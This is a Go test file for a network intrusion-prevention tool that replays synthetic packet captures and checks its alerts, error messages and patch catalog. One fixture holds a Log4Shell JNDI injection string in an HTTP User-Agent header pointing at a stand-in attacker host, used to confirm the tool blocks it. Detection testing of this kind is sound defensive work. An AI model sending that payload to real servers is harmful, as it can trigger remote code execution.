package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/patchgate/patchgate/dataplane"
	"github.com/patchgate/patchgate/dataplane/gen"
)

const catalog = "../../patches"

func runCmd(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	var out, errb bytes.Buffer
	code := run(args, &out, &errb)
	return code, out.String(), errb.String()
}

// writeCapture writes one HTTP session carrying req to a pcap file.
func writeCapture(t *testing.T, dir, name string, reqs ...string) string {
	t.Helper()
	s, err := gen.NewTCPSession(gen.EP("192.0.2.7:43210"), gen.EP("198.51.100.8:80"), gen.DefaultSessionOptions())
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range reqs {
		s.Send(dataplane.ToServer, []byte(r))
		s.Send(dataplane.ToClient, []byte("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"))
	}
	s.Close(dataplane.ToServer)
	c, err := s.Capture()
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, name)
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := c.WritePcap(f); err != nil {
		t.Fatal(err)
	}
	f.Close()
	return path
}

// TestReplayEVE checks the EVE fields existing pipelines depend on.
func TestReplayEVE(t *testing.T) {
	dir := t.TempDir()
	pcap := writeCapture(t, dir, "log4shell.pcap",
		"GET / HTTP/1.1\r\nHost: shop.test\r\n\r\n",
		"GET / HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: ${${lower:j}ndi:ldap://attacker.test/a}\r\n\r\n")
	evePath := filepath.Join(dir, "eve.json")
	code, _, stderr := runCmd(t, "replay", "--patches", catalog, "--eve", evePath, pcap)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	f, err := os.Open(evePath)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var recs []map[string]any
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatalf("not JSON: %q", sc.Text())
		}
		recs = append(recs, m)
	}
	if len(recs) != 1 {
		t.Fatalf("want exactly one alert, got %d: %v", len(recs), recs)
	}
	r := recs[0]
	for k, want := range map[string]any{
		"event_type": "alert", "src_ip": "192.0.2.7", "src_port": 43210.0, "dest_ip": "198.51.100.8",
		"dest_port": 80.0, "proto": "TCP", "app_proto": "http",
	} {
		if r[k] != want {
			t.Errorf("%s = %v, want %v", k, r[k], want)
		}
	}
	for _, k := range []string{"timestamp", "flow_id"} {
		if _, ok := r[k]; !ok {
			t.Errorf("missing %s", k)
		}
	}
	a := r["alert"].(map[string]any)
	if a["action"] != "blocked" || a["signature_id"] != 2021044228.0 || a["signature"] == "" || a["category"] == "" || a["severity"] != 1.0 {
		t.Errorf("alert object %v", a)
	}
	cve := a["metadata"].(map[string]any)["cve"].([]any)
	if len(cve) == 0 || cve[0] != "CVE-2021-44228" {
		t.Errorf("metadata.cve %v", cve)
	}
	if !strings.Contains(stderr, "CVE-2021-44228") || !strings.Contains(stderr, "MATCHES") {
		t.Errorf("summary table missing: %s", stderr)
	}
}

func TestReplayBenignRaisesNothing(t *testing.T) {
	dir := t.TempDir()
	pcap := writeCapture(t, dir, "benign.pcap",
		"GET /search?q=a..b&price=$5 HTTP/1.1\r\nHost: a\r\nRange: bytes=0-1048575\r\nX-Template: ${user.name}\r\n\r\n",
		"POST /form HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 27\r\n\r\nclassification=top&class=2")
	code, stdout, stderr := runCmd(t, "replay", "--patches", catalog, pcap)
	if code != 0 || stdout != "" {
		t.Fatalf("exit %d, alerts %q, stderr %s", code, stdout, stderr)
	}
}

func TestBadInputOneClearError(t *testing.T) {
	dir := t.TempDir()
	good := writeCapture(t, dir, "good.pcap", "GET / HTTP/1.1\r\nHost: a\r\n\r\n")
	data, _ := os.ReadFile(good)
	trunc := filepath.Join(dir, "trunc.pcap")
	os.WriteFile(trunc, data[:len(data)-10], 0o644)
	junk := filepath.Join(dir, "junk.pcap")
	os.WriteFile(junk, []byte("this is not a capture"), 0o644)
	badPatches := filepath.Join(dir, "patches")
	os.Mkdir(badPatches, 0o755)
	os.WriteFile(filepath.Join(badPatches, "p.yaml"), []byte("id: X-1\nsid: 5\ntitle: t\nseverity: high\ncategory: dos\nprotocol: http\nevent: http.request\nwhen: nosuchfield > 1\naction: drop\ntests: [{name: a, match: true, to_server: x}]\n"), 0o644)

	cases := []struct {
		name string
		args []string
		want string
	}{
		{"missing capture", []string{"replay", "--patches", catalog, filepath.Join(dir, "nope.pcap")}, "nope.pcap"},
		{"not a capture", []string{"replay", "--patches", catalog, junk}, "junk.pcap"},
		{"truncated capture", []string{"replay", "--patches", catalog, trunc}, "trunc.pcap"},
		{"broken patch", []string{"patches", "validate", badPatches}, "p.yaml:8: when: unknown name nosuchfield"},
		{"missing patch dir", []string{"patches", "test", filepath.Join(dir, "none")}, "none"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			code, _, stderr := runCmd(t, append(tc.args, "-q")[:len(tc.args)]...)
			if code != 1 {
				t.Fatalf("exit %d, want 1; stderr %q", code, stderr)
			}
			if !strings.HasPrefix(stderr, "patchgate: ") && !strings.Contains(stderr, "\npatchgate: ") {
				t.Fatalf("no error line: %q", stderr)
			}
			if !strings.Contains(stderr, tc.want) {
				t.Fatalf("error does not name %q: %q", tc.want, stderr)
			}
			if strings.Contains(stderr, "panic") || strings.Contains(stderr, "goroutine") {
				t.Fatalf("panic: %s", stderr)
			}
		})
	}
	if code, _, _ := runCmd(t, "replay"); code != 2 {
		t.Fatalf("usage error exit %d, want 2", code)
	}
}

func TestPatchesTestShippedCatalog(t *testing.T) {
	code, stdout, stderr := runCmd(t, "patches", "test", catalog)
	if code != 0 {
		t.Fatalf("exit %d: %s%s", code, stdout, stderr)
	}
	if !strings.Contains(stdout, " passed, 0 failed") {
		t.Fatalf("summary line: %q", stdout)
	}
}

func TestGenDemoRoundTrip(t *testing.T) {
	dir := t.TempDir()
	out := filepath.Join(dir, "demo.pcapng")
	if code, _, stderr := runCmd(t, "gen", "demo", "--patches", catalog, "--out", out, "--sessions", "5"); code != 0 {
		t.Fatalf("gen: %s", stderr)
	}
	code, stdout, stderr := runCmd(t, "replay", "--patches", catalog, out)
	if code != 0 {
		t.Fatalf("replay: %s", stderr)
	}
	if n := strings.Count(stdout, "\n"); n == 0 {
		t.Fatal("demo capture raised no alert")
	}
}
